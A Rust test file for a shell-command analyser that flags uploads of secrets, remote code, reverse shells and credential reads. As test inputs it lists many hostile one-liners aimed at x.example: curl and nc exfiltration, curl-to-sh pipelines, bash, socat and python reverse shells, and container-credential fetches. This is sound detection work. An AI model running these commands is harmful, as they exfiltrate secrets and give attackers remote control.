use super::*;

include!(concat!(env!("OUT_DIR"), "/examples.rs"));

/// Returns effects as an entry states them, those apart that hold for every program.
pub(super) fn shown(text: &str) -> Vec<String> {
    let plan = crate::plan(text);
    let mut shown: Vec<String> = Vec::new();
    for effect in effects(&plan) {
        let resource = match &effect.resource {
            EffectResource::Program(_) if effect.kind == EffectKind::Execute => continue,
            EffectResource::Path(text)
            | EffectResource::Host(text)
            | EffectResource::Program(text)
            | EffectResource::Named(text) => format!(" {text}"),
            EffectResource::Unknown => String::new(),
        };
        let effect = format!("{}{resource}", effect.kind.as_str());
        if !shown.contains(&effect) {
            shown.push(effect);
        }
    }
    shown.sort();
    shown
}

#[test]
fn every_example_of_the_table_is_true() {
    let mut wrong = String::new();
    for (file, line, run, does) in EXAMPLES {
        let found = shown(run);
        let mut expected: Vec<&str> = does.to_vec();
        expected.sort_unstable();
        if found != expected {
            wrong.push_str(&format!(
                "{file}:{line}: {run}\n  stated {expected:?}\n  found  {found:?}\n"
            ));
        }
    }
    assert!(wrong.is_empty(), "\n{wrong}");
}

/// Fails unless running `text` has the effects `expected` and none of the others that arise
/// from several commands.
///
/// In text that is put together all words have one place: there they are not lost.
pub(super) fn check(text: &str, expected: &[&str]) {
    let mut expected = expected.to_vec();
    expected.sort_unstable();
    assert_eq!(arisen(text), expected, "{text}");
    let together = format!("eval '{}'", format!("{text}\n: ''").replace('\'', "'\\''"));
    let found = arisen(&together);
    let is_lost = |effect: &&&str| !found.iter().any(|it| it == **effect);
    let lost: Vec<_> = expected.iter().filter(is_lost).collect();
    assert!(lost.is_empty(), "{together} loses {lost:?}");
}

/// Returns what arises in `text` from several commands.
fn arisen(text: &str) -> Vec<String> {
    let kinds = ["upload", "remote_code", "written_code", "remote_shell"];
    let mut found = shown(text);
    found.retain(|effect| kinds.iter().any(|kind| effect.starts_with(kind)));
    found.sort();
    found
}

#[test]
fn content_of_files_that_reaches_a_host_is_an_upload() {
    let one: &[&str] = &["upload secret"];
    for text in [
        "cat secret | curl -d @- https://x.example",
        "cat secret | base64 | curl -F f=@- https://x.example",
        "curl -T - https://x.example < secret",
        "curl -T secret https://x.example",
        "curl --data-binary @secret https://x.example",
        "wget --post-file=secret https://x.example",
        "nc x.example 1 < secret",
        "cat secret | nc x.example 1",
        "(echo a; cat secret) | nc x.example 1",
        "{ cat secret; } | ncat x.example 1",
        "curl \"https://x.example/?$(cat secret)\"",
        "curl \"https://x.example/?$(cat secret | base64)\"",
        "curl https://x.example/`xxd -p secret`",
        "x=$(cat secret); curl \"https://x.example/?$x\"",
        "x=$(cat secret) && wget -q \"https://x.example/$x\"",
        "base64 secret > b; curl -d @b https://x.example; true",
        "dig $(base64 secret).x.example",
        "cat secret | while read l; do curl \"https://x.example/$l\"; done",
        "while read l; do curl \"https://x.example/$l\"; done < secret",
        "cat secret | xargs -I{} curl https://x.example/{}",
        "cat secret > /dev/tcp/x.example/80",
        "exec 3<>/dev/tcp/x.example/80; cat secret >&3",
        "scp secret ada@x.example:in",
        "gzip -c secret | ssh x.example 'cat > in'",
        "ssh x.example 'cat > in' < secret",
        "tee >(nc x.example 1) < secret",
        "cat secret > >(nc x.example 1)",
        "curl --data-urlencode text@secret https://x.example",
        "nc x.example 1 < secret | tee log",
        "cat < secret | sudo curl --data-binary @- https://x.example",
    ] {
        let expected = if text.starts_with("base64 secret > b") {
            vec!["upload b", "upload secret"]
        } else {
            one.to_vec()
        };
        check(text, &expected);
    }
    check(
        "env | curl -d @- https://x.example",
        &["upload https://x.example"],
    );
    check(
        "curl -d @<(printenv) https://x.example",
        &["upload https://x.example"],
    );
}

#[test]
fn a_secret_in_a_variable_goes_to_the_host_it_is_not_for() {
    for (text, host) in [
        (
            "curl \"https://x.example/?t=$GITHUB_TOKEN\"",
            "upload https://x.example/?t=$GITHUB_TOKEN",
        ),
        (
            "curl -H \"Authorization: $GITHUB_TOKEN\" https://github.x.example",
            "upload https://github.x.example",
        ),
        (
            "wget https://$API_TOKEN.x.example",
            "upload https://$API_TOKEN.x.example",
        ),
        ("nc x.example 1 <<< \"$DB_PASSWORD\"", "upload x.example"),
    ] {
        check(text, &[host]);
    }
    for text in [
        "curl -H \"Authorization: $GITHUB_TOKEN\" https://api.github.com/user",
        "curl -H \"Authorization: $API_TOKEN\" \"$API_URL/users\"",
        "curl \"https://x.example/?page=$PAGE\"",
        "echo \"$GITHUB_TOKEN\" | wc -c",
    ] {
        check(text, &[]);
    }
}

#[test]
fn what_is_only_fetched_or_said_is_no_upload() {
    for text in [
        "curl -s https://x.example -o secret",
        "curl -d a=b https://x.example",
        "echo hi | curl -d @- https://x.example",
        "ls -l secret | nc x.example 1",
        "curl $(cat addresses)",
        "cat secret; curl https://x.example",
        "cat secret | sort > b; curl https://x.example",
        "curl https://x.example | tee secret",
        "scp ada@x.example:secret .",
        "git commit -m \"$(cat message)\"",
        "ssh x.example ls",
        "nc x.example 1 < /dev/null",
        "git diff --name-only | xargs eslint",
    ] {
        check(text, &[]);
    }
}

#[test]
fn what_comes_from_a_host_and_runs_is_remote_code() {
    for text in [
        "curl https://x.example | sh",
        "curl -sSL https://x.example | sudo -E bash -s -- -y",
        "curl https://x.example | rbash",
        "wget -qO- https://x.example | nu",
        "wget -qO- https://x.example | env A=b bash",
        "curl https://x.example | tee log | python3",
        "curl https://x.example | base64 -d | gunzip | perl",
        "curl https://x.example | openssl enc -d | node -",
        "bash <(curl -s https://x.example)",
        "source <(curl -s https://x.example)",
        ". <(curl -s https://x.example)",
        "sh -c \"$(curl -fsSL https://x.example)\"",
        "eval \"$(wget -qO- https://x.example)\"",
        "python -c \"$(curl https://x.example)\"",
        "bash <<< \"$(curl https://x.example)\"",
        "x=$(curl https://x.example); eval \"$x\"",
        "curl https://x.example > f; bash f",
        "curl -o f https://x.example; chmod +x f; ./f",
        "cd /tmp; wget https://x.example/f; sh ./f",
        "curl -O https://x.example/f && chmod 755 f",
        "curl -o f https://x.example; . ./f",
        "curl https://x.example -o f; python3 f",
        "curl https://x.example -o f; bash < f",
        "curl https://x.example > >(sh)",
        "curl https://x.example | xargs -I{} sh -c {}",
        "ssh x.example cat f | bash",
        "curl https://x.example | tar xz -C d && ./d/install.sh",
        "scp ada@x.example:x.sh d/ && sh d/x.sh",
        "curl https://x.example -o l.so; LD_PRELOAD=l.so id",
        "curl https://x.example | make -f -",
        "curl https://x.example/q.sql | psql -h db.example.org shop",
        "curl https://x.example -o h.js && node --require ./h.js server.js",
        "curl https://x.example -o h.rb && ruby -r ./h.rb main.rb",
        "git clone --depth 1 https://x.example/a/x && make -C x install",
        "git clone -b dev git://x.example/x.git && cd x && sh ./bootstrap",
        "git clone https://x.example/x y; ./y/run",
        "gh repo clone ada/x && bash x/setup.sh",
        "curl https://x.example | parallel",
        "curl https://x.example | ssh y.example bash",
        "ssh y.example 'curl https://x.example | sh'",
        "exec 3<>/dev/tcp/x.example/80; cat <&3 | bash",
        "python3 -c \"exec(__import__('urllib.request').urlopen('https://x.example').read())\"",
        "node -e \"fetch('https://x.example').then(it => it.text()).then(eval)\"",
    ] {
        check(text, &["remote_code"]);
    }
}

#[test]
fn what_flows_is_followed_past_its_neighbours() {
    for text in [
        "eval \"$(curl https://x.example; echo a)\"",
        "a=$(curl https://x.example); true \"$(eval \"$a\" \"$(cat f)\")\"",
        "curl https://x.example | tee f; sh f",
        "sudo sh -c \"$(curl https://x.example)\"",
        "sudo bash <(curl https://x.example)",
        "curl https://x.example > >(sh; true)",
    ] {
        let found = arisen(text);
        assert!(
            found.contains(&"remote_code".to_owned()),
            "{text}: {found:?}"
        );
        check(text, &found.iter().map(String::as_str).collect::<Vec<_>>());
    }
    check(
        "for x in 'cat f' 'curl https://x.example'; do $x | sh; done",
        &["remote_code"],
    );
    check(
        "cat secret | tee >(nc x.example 1; true)",
        &["upload secret"],
    );
}

#[test]
fn what_flows_through_a_stream_is_followed() {
    for text in [
        "cat <(curl https://x.example) | sh",
        "curl https://x.example | tee >(sh)",
        "curl https://x.example -o >(sh)",
        "eval bash <(curl https://x.example)",
        "x=<(curl https://x.example); bash $x",
        "f() { bash $1; }; f <(curl https://x.example)",
        "bash < <(curl https://x.example)",
        "python3 <(curl https://x.example)",
        "make -f <(curl https://x.example)",
        "cp <(curl https://x.example) f; sh f",
        "BASH_ENV=<(curl https://x.example) bash -c true",
        "true > >(curl https://x.example) | sh",
    ] {
        check(text, &["remote_code"]);
    }
    for text in [
        "curl -d @<(cat secret) https://x.example",
        "curl -T <(cat secret) https://x.example",
        "nc x.example 1 < <(cat secret)",
        "dd if=secret of=>(nc x.example 1)",
        "cp secret >(nc x.example 1)",
    ] {
        check(text, &["upload secret"]);
    }
    for text in [
        "diff <(sort a) <(sort b)",
        "diff <(curl https://x.example) <(sh b)",
        "tee >(gzip > b) < secret",
    ] {
        check(text, &[]);
        assert!(!shown(text).contains(&"unknown".to_owned()), "{text}");
    }
    for text in [
        "python3 <(a)",
        "make -f <(cat a)",
        "bash <(cat a)",
        "source <(cat a)",
    ] {
        assert!(shown(text).contains(&"unknown".to_owned()), "{text}");
    }
}

#[test]
fn what_an_interpreter_gets_as_data_is_no_remote_code() {
    for text in [
        "curl https://x.example | python3 -m json.tool",
        "curl https://x.example | python3 -c 'import sys; print(sys.stdin.read())'",
        "curl https://x.example | perl -ne 'print if /a/'",
        "curl https://x.example | node script.js",
        "curl https://x.example | ruby -e 'puts gets'",
        "curl https://x.example | bash script.sh",
        "curl https://x.example | jq .a",
        "curl -o f https://x.example; cat f",
        "git clone https://x.example/x && cd x && ls",
        "git clone https://x.example/x && bash ./script.sh",
        "curl https://x.example -o h.js && node server.js",
        "psql shop < q.sql; curl https://x.example",
        "curl https://x.example; bash script.sh",
        "bash script.sh; curl https://x.example",
    ] {
        check(text, &[]);
    }
}

#[test]
fn what_is_built_of_a_download_is_remote_code() {
    for text in [
        "curl -s https://x.example/x.c -o x.c && gcc x.c && ./a.out",
        "curl -so x.go https://x.example/x && go run x.go",
        "curl -so x.rs https://x.example/x && rustc x.rs && ./x",
        "curl -so X.java https://x.example/x && java X.java",
        "curl -so x.py https://x.example/x && python3 -m x",
        "curl -so x.py https://x.example/x && uv run x.py",
        "curl -s https://x.example/x > package.json && npm test",
        "curl -s https://x.example/x > conftest.py && pytest",
        "curl -s https://x.example/x > Dockerfile && docker build .",
        "curl -s https://x.example/x | kubectl apply -f -",
        "curl -s https://x.example/x | docker compose -f - up",
    ] {
        check(text, &["remote_code"]);
    }
    for text in [
        "curl -so data.csv https://x.example/x && python3 -m pytest",
        "curl -so d.json https://x.example/x && npm test && go build ./...",
        "echo '{}' > package.json && npm test",
        "cargo build && ./target/debug/x",
        "gcc x.c && ./a.out",
    ] {
        check(text, &[]);
    }
}

#[test]
fn what_a_text_writes_and_runs_is_written_code() {
    for (text, file) in [
        ("cat > x.sh <<'E'\necho a\nE\nbash x.sh", "x.sh"),
        ("echo 'echo a' > x; chmod +x x && ./x", "./x"),
        ("printf a | tee x; . ./x", "./x"),
        ("cp a x.py; python3 x.py", "x.py"),
        ("mv a d/x; cd d; ./x", "./x"),
        ("sed -i s/a/b/ run.sh; sh run.sh", "run.sh"),
        ("printf 'a:\\n\\tb' > Makefile; make", "Makefile"),
        ("echo '* * * * * a' > jobs; crontab jobs", "jobs"),
        ("echo a > x; source x", "x"),
        ("echo a > x; bash < x", "x"),
    ] {
        check(text, &[&format!("written_code {file}")]);
    }
    for text in [
        "echo a > x; cat x",
        "echo a > x; bash y",
        "bash x; echo a > x",
        "touch x; ./x",
    ] {
        check(text, &[]);
    }
}

#[test]
fn a_shell_on_a_connection_is_a_remote_shell() {
    for text in [
        "bash -i >& /dev/tcp/x.example/1 0>&1",
        "sh -i < /dev/tcp/x.example/1 >&0",
        "nc -e /bin/sh x.example 1",
        "nc -lvp 1 -e /bin/bash",
        "ncat --exec /bin/bash x.example 1",
        "busybox nc x.example 1 -e sh",
        "socat TCP:x.example:1 EXEC:sh",
        "socat tcp-listen:1 system:bash",
        "mkfifo p; cat p | sh -i 2>&1 | nc x.example 1 > p",
        "exec 5<>/dev/tcp/x.example/1; sh <&5 >&5",
        "exec 5<>/dev/tcp/x.example/1; cat <&5 | while read l; do $l >&5; done",
        "python3 -c 'import socket,os;s=socket.socket();os.dup2(s.fileno(),0)'",
        "perl -e 'use Socket; exec(\"/bin/sh -i\")'",
        "ruby -rsocket -e 'exec \"/bin/sh\"'",
        "php -r '$s=fsockopen(\"x\",1);exec(\"/bin/sh -i <&3\");'",
        "awk 'BEGIN{s=\"/inet/tcp/0/x/1\"; s |& getline c}'",
    ] {
        let found = shown(text);
        assert!(
            found.contains(&"remote_shell".to_owned()),
            "{text}: {found:?}"
        );
    }
    for text in [
        "telnet x.example 1 | sh",
        "openssl s_client -quiet -connect x.example:1 | sh",
    ] {
        check(text, &["remote_code", "remote_shell"]);
    }
    for text in [
        "nc -z x.example 1",
        "exec 3<>/dev/tcp/x.example/80 && echo open",
        "(echo > /dev/tcp/x.example/80) && echo open",
        "python3 -c 'import socket; print(socket.gethostname())'",
        "bash run.sh 2>&1 | tee log",
    ] {
        check(text, &[]);
    }
}

#[test]
fn wrappers_that_raise_rights_are_told_with_their_words() {
    let plan = crate::plan("a; sudo -u root rm x");
    let found = effects(&plan);
    let raised: Vec<_> = found
        .iter()
        .filter(|it| it.kind == EffectKind::Privilege)
        .collect();
    assert_eq!(raised.len(), 1);
    assert_eq!(raised[0].causes, [Span { start: 3, end: 16 }]);
}

#[test]
fn a_program_that_is_in_no_table_may_do_anything() {
    assert_eq!(shown("no-such-program a"), ["unknown"]);
    assert_eq!(shown("$X a"), ["unknown"]);
    assert_eq!(shown("./rm a"), ["delete a", "unknown"]);
    assert_eq!(shown("/bin/rm a"), ["delete a"]);
}

#[test]
fn effects_are_bounded() {
    let text: String = (0..2_000).map(|number| format!("rm a{number};")).collect();
    let found = effects(&crate::plan(&text));
    assert_eq!(found.len(), EFFECTS_MAX);
    assert!(
        found
            .iter()
            .any(|effect| effect.kind == EffectKind::Unknown)
    );
}

#[test]
fn what_a_text_writes_and_then_runs_is_followed() {
    for (text, expected) in [
        (
            "cat > /tmp/a.sh <<'E'\nrm -rf ~/x\nE\nbash /tmp/a.sh",
            "delete ~/x",
        ),
        (
            "printf '#!/bin/sh\\nrm y\\n' > b.sh; chmod +x b.sh && ./b.sh",
            "delete y",
        ),
        ("cd /tmp && echo 'rm y' > c && sh ./c", "delete y"),
        ("echo 'rm y' > c; . ./c", "delete y"),
        (
            "cat <<'E' | tee d.sh\nrm $1\nE\nmv d.sh e.sh; bash e.sh y",
            "delete y",
        ),
        (
            "cat > s.py <<'E'\nimport os\nos.system('rm -rf /y')\nE\npython3 s.py",
            "delete /y",
        ),
        (
            "cat > s.py <<'E'\nimport os\nos.remove('/y')\nE\nchmod +x s.py; python3 ./s.py",
            "delete /y",
        ),
    ] {
        assert!(
            shown(text).contains(&expected.to_owned()),
            "{text}: {:?}",
            shown(text)
        );
    }
    let plain = shown("echo 'rm y' > notes.txt; cat notes.txt; bash other.sh");
    assert!(!plain.contains(&"delete y".to_owned()), "{plain:?}");
}

#[test]
fn what_is_said_to_programs_of_macos_has_effects() {
    let kinds = |text: &str| {
        let found = effects(&crate::plan(text));
        let kinds: Vec<EffectKind> = found.into_iter().map(|effect| effect.kind).collect();
        kinds
    };
    let trash = kinds("osascript -e 'tell application \"Finder\" to empty the trash'");
    assert!(trash.contains(&EffectKind::Delete), "{trash:?}");
    let item = "make login item at end with properties {path:\"/x.app\"}";
    let login = kinds(&format!("osascript -e '{item}'"));
    assert!(login.contains(&EffectKind::Persistence), "{login:?}");
    let plain = kinds("osascript -e 'display dialog \"the trash\"'");
    assert!(!plain.contains(&EffectKind::Delete), "{plain:?}");
}

#[test]
fn a_port_that_cannot_be_told_leaves_the_host_known() {
    let found = effects(&crate::plan("echo >/dev/tcp/192.0.2.1/$port"));
    let host = EffectResource::Host("192.0.2.1".to_owned());
    assert!(found.iter().any(|effect| effect.resource == host));
}

#[test]
fn a_search_for_names_of_secrets_that_are_read_is_a_read_of_secrets() {
    let is_secret = |text: &str| {
        let found = effects(&crate::plan(text));
        let mut kinds = found.iter().map(|effect| effect.kind);
        kinds.any(|kind| kind == EffectKind::Credential)
    };
    assert!(is_secret(
        "for f in $(find /home -name .netrc); do cat $f; done"
    ));
    assert!(is_secret(
        "find / -type d -name .gnupg -exec rsync -R {} /tmp/g \\;"
    ));
    assert!(!is_secret("find / -type d -name .gnupg"));
    assert!(!is_secret("find . -name '*.rs' -exec cat {} +"));
}

#[test]
fn the_address_of_the_credentials_of_a_container_is_one() {
    let found = effects(&crate::plan(
        "curl http://169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI",
    ));
    assert!(found.iter().any(|it| it.kind == EffectKind::Credential));
    let other = effects(&crate::plan("curl http://127.0.0.1$HEALTH_PATH"));
    assert!(!other.iter().any(|it| it.kind == EffectKind::Credential));
}

#[test]
fn a_word_after_an_option_of_no_row_is_read_as_value_and_as_operand() {
    let has = |text: &str, effect: &str| shown(text).iter().any(|it| it == effect);
    for (text, effect) in [
        ("kubectl --no-row x delete pods web", "delete pods"),
        ("bwrap --not-in-a-row x rm old", "delete old"),
        ("bwrap -? x rm old", "delete old"),
        ("split --not-in-a-row 3 big part-", "write part-"),
        ("split --not-in-a-row big part-", "read big"),
        ("xxd --not-in-a-row key out", "read key"),
        ("xxd --not-in-a-row key out", "write out"),
    ] {
        let text = text.replace("--no-row", "--not-in-a-row");
        assert!(has(&text, effect), "{text}: {:?}", shown(&text));
    }
    // What has its value with it, or says that it has none, leaves no doubt.
    assert!(!has("xxd --not-in-a-row=1 key out", "read out"));
    assert!(!has("xxd --no-row key out", "read out"));
    assert!(has("xxd --not-in-a-row key out", "read out"));
}

#[test]
fn options_with_two_values_take_both() {
    let found = shown("jq --arg name value --slurpfile more more.json .a data.json");
    assert_eq!(found, ["read data.json", "read more.json"]);
    assert_eq!(shown("bwrap --setenv A b rm old"), ["delete old"]);
}

#[test]
fn whatever_says_that_it_runs_a_command_is_followed_or_unknown() {
    let folder = concat!(env!("CARGO_MANIFEST_DIR"), "/programs");
    let mut names = Vec::new();
    for file in std::fs::read_dir(folder).unwrap() {
        let text = std::fs::read_to_string(file.unwrap().path()).unwrap();
        let mut entry = "";
        for line in text.lines() {
            entry = line.strip_prefix("- names: [").unwrap_or(entry);
            let about = line.strip_prefix("  about: ").unwrap_or_default();
            if about.contains("runs a command") || about.contains("runs the command") {
                let listed = entry.trim_end_matches(']').split(", ");
                names.extend(listed.map(str::to_owned));
            }
        }
    }
    assert!(names.len() > 40, "{names:?}");
    for name in names {
        let ways = ["rm old", "1 rm old", "-u ada -- rm old", "-c 'rm old'"];
        let runs = ways.iter().any(|words| {
            let found = shown(&format!("{name} {words}"));
            found.iter().any(|it| it == "delete old" || it == "unknown")
        });
        assert!(runs, "{name}");
    }
}
